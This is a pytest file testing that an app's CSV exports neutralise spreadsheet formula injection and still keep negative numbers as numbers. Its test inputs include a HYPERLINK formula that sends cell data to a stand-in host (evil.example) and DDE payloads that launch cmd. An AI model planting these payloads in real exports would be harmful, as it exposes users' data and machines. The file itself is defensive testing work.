"""CSV exports: text that a spreadsheet would run as a formula is written as text."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest

from estimates.models import Projection
from tests.billing.test_calibration import read_csv, sampled_account
from tests.factories import EstimateSourceFactory
from tokenoffset.accounts.spreadsheets import spreadsheet_cell
from tokenoffset.dashboard.lifecycle import account_export_csv_zip

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
)
def test_it_quotes_text_that_starts_a_formula(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-5, -1.5, Decimal("-12.5"), "-12.5", "-3", 0, "Acme = good", "", "'quoted", None]
)
def test_it_keeps_numbers_and_ordinary_text_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_it_neutralises_formulas_in_the_account_export_but_keeps_negative_numbers():
    export = {
        "sources": [{"label": FORMULA, "status": "ok"}],
        "projections": [{"trend_pct": Decimal("-12.5"), "figures": {"a": "=1"}, "note": None}],
    }
    archive = zipfile.ZipFile(io.BytesIO(account_export_csv_zip(export=export)))
    sources = list(csv.DictReader(io.StringIO(archive.read("sources.csv").decode())))
    projections = list(csv.DictReader(io.StringIO(archive.read("projections.csv").decode())))
    assert sources == [{"label": "'" + FORMULA, "status": "ok"}]
    assert projections == [{"trend_pct": "-12.5", "figures": '{"a": "=1"}', "note": ""}]


def test_it_neutralises_a_formula_label_in_the_downloaded_export(owner_client, account):
    source = EstimateSourceFactory(account=account, label="@cmd")
    response = owner_client.get(f"/account/{account.public_id}/export.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    rows = list(csv.DictReader(io.StringIO(archive.read("sources.csv").decode())))
    assert [r["label"] for r in rows] == ["'@cmd"]
    assert rows[0]["public_id"] == str(source.public_id)


def test_it_neutralises_formulas_in_the_staff_aggregates(admin_client, db):
    for i in range(5):
        account = sampled_account(f"Worker Co {i}", "worker", (i + 1) * 1_000_000)
        Projection.objects.filter(account=account).update(
            monthly_tokens_by_class={"=cmd|' /C calc'!A0": {"output": {"point": 7}}}
        )
    rows = read_csv(admin_client.get("/admin/billing/offset/aggregates.csv"))
    values = {r["value"] for r in rows if r["group"] == "vendor_model_class"}
    assert values == {"'=cmd|' /C calc'!A0"}
    assert {r["accounts"] for r in rows} == {"5"}  # numbers stay numbers
